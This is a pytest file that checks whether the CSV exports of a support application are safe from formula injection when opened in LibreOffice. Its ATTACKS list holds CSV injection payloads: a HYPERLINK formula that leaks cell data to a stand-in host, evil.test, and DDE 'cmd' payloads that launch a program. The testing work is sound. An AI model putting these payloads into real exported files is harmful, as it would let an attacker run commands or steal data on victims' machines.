"""P34: no export calculates in the spreadsheet that opens it. Each CSV of the contract is asked."""

from __future__ import annotations

import json
import os
import re
import subprocess
import zipfile
from datetime import UTC, datetime, timedelta
from pathlib import Path
from uuid import uuid4

import pytest

from alongside.domains.agents.actions import presence
from alongside.domains.messages import actions as messages
from alongside.domains.messages.actions import Draft
from alongside.kit import csv
from alongside.kit.ids import new_client_id
from tests.harness.until import until
from tests.world import Browser, World
from tools.paths import ROOT

pytestmark = pytest.mark.deep

# Read before the tests forget the settings of the machine.
PROGRAM = os.environ.get("ALONGSIDE_SOFFICE")
MARK = "7919*7"
# What spreadsheets have calculated: signs, wide signs, leading white space and line ends, links, and DDE.
ATTACKS = [
    *(f"{sign}{MARK}" for sign in "=+-@|＝＋－＠"),
    *(f"{space}={MARK}" for space in (" ", "\u00a0", "\t", "\r\n", "\n")),
    f"'={MARK}",
    f'=HYPERLINK("http://evil.test/?leak="&A1;"{MARK}")',
    f"=cmd|' /C calc'!{MARK}",
    f"-2+3+cmd|' /C calc'!{MARK}",
    f"@SUM(1+{MARK})",
    f'=1+1",={MARK}',
    f"a\n={MARK}",
]

_FORMULA = re.compile(rb"<f[ >/]")


class Calc:
    """LibreOffice's spreadsheet, without a window."""

    def __init__(self, folder: Path) -> None:
        if not PROGRAM:
            pytest.fail("There is no LibreOffice. Run bin/check --deep, which installs it, or set ALONGSIDE_SOFFICE.")
        self.program = PROGRAM
        self.folder = folder

    def formulas(self, content: bytes) -> int:
        """How many cells of a CSV it would calculate."""
        source = self.folder / f"{uuid4()}.csv"
        source.write_bytes(content)
        home = f"-env:UserInstallation=file://{self.folder / 'home'}"
        # Comma, quotes, UTF-8, from line 1, and formulas evaluated: what a click on the file does at its most trusting.
        options = "CSV:44,34,76,1,,0,false,true,false,false,false,-1,true"
        command = [self.program, home, "--headless", f"--infilter={options}", "--convert-to", "xlsx", "--outdir"]
        subprocess.run([*command, str(self.folder), str(source)], check=True, capture_output=True, timeout=300)
        with zipfile.ZipFile(source.with_suffix(".xlsx")) as book:
            sheets = [name for name in book.namelist() if name.startswith("xl/worksheets/sheet")]
            assert sheets
            return sum(len(_FORMULA.findall(book.read(name))) for name in sheets)


def contract_of_csv() -> set[str]:
    """The addresses below /api/v1 that answer with CSV."""
    paths = json.loads((ROOT / "contract/openapi.json").read_text())["paths"]
    return {
        path.removeprefix("/api/v1")
        for path, methods in paths.items()
        for operation in methods.values()
        for answer in operation["responses"].values()
        if "text/csv" in answer.get("content", {})
    }


async def write_attacks(world: World, browser: Browser) -> None:
    """Each text into each place that reaches a file."""
    done = browser.be(world.sol)
    asked = await done.post("/fields", {"kind": "text", "key": "attack", "label": {"en": f"={MARK}"}})
    assert asked.status_code == 201, asked.text
    await done.put(f"/contacts/{world.vera.actor.contact_id}/fields/{asked.json()['id']}", {"value": f"={MARK}"})
    await done.patch("/me", {"display_name": f"={MARK}"})
    await done.patch(f"/contacts/{world.vera.actor.contact_id}", {"name": f"={MARK}"})
    for at, attack in enumerate(ATTACKS):
        await done.post("/labels", {"name": f"{attack[:30]}{at}"})
        ticket = {"client_id": str(uuid4()), "title": attack, "description": attack}
        assert (await done.post("/tickets", ticket)).status_code == 201
        block = {"title": f"{attack}{at}", "text": attack, "folder": attack}
        assert (await done.post("/text-blocks", block)).status_code == 201
        draft = Draft(new_client_id(), attack)
        await messages.post(world.database, world.vera.actor, world.conversation_id, draft, 4_000)
    for label in (await done.get("/labels")).json():
        await done.put(f"/contacts/{world.vera.actor.contact_id}/labels/{label['id']}")
        await done.put(f"/conversations/{world.conversation_id}/labels/{label['id']}")
    await done.put(f"/conversations/{world.conversation_id}/assignment", {"agent_id": str(world.sol.id)})
    await presence.extend_lease(world.database, world.sol.id)


async def test_no_export_calculates(world: World, browser: Browser, tmp_path: Path) -> None:
    calc = Calc(tmp_path)
    bare = "".join(f'"{attack.replace(chr(34), chr(34) * 2)}"\r\n' for attack in ATTACKS)
    assert calc.formulas(bare.encode()) > 2, "unguarded, some do calculate: what follows would show it"
    assert calc.formulas((csv.BOM + csv.write_rows([attack] for attack in ATTACKS)).encode()) == 0

    await write_attacks(world, browser)
    today = datetime.now(UTC).date()
    period = f"first={today - timedelta(days=2)}&last={today + timedelta(days=1)}&zone=UTC"
    asked = await browser.post(
        "/reports/exports",
        {"report": "conversations", "first": f"{today - timedelta(days=2)}", "last": f"{today}", "zone": "UTC"},
    )
    export_id = asked.json()["id"]

    async def written() -> bool:
        told = (await browser.get("/reports/exports")).json()
        return all(each["state"] == "ready" for each in told)

    await until(written, seconds=60)
    questions = {
        "/contacts/export": "",
        "/tickets/export": "",
        "/text-blocks/export": "",
        "/audit/export": "",
        "/reports/conversations": period,
        "/reports/gathered": period,
        "/reports/agent-times/export": period,
        "/reports/exports/{export_id}/file": "",
        "/conversations/{conversation_id}/transcript": "format=csv&inside=true",
    }
    assert set(questions) == contract_of_csv(), "a new export needs its question here"
    for path, question in questions.items():
        address = path.format(export_id=export_id, conversation_id=world.conversation_id)
        answer = await browser.get(f"{address}?{question}")
        assert answer.status_code == 200, (path, answer.text[:500])
        assert MARK in answer.text, f"{path} holds none of the texts"
        assert calc.formulas(answer.content) == 0, path
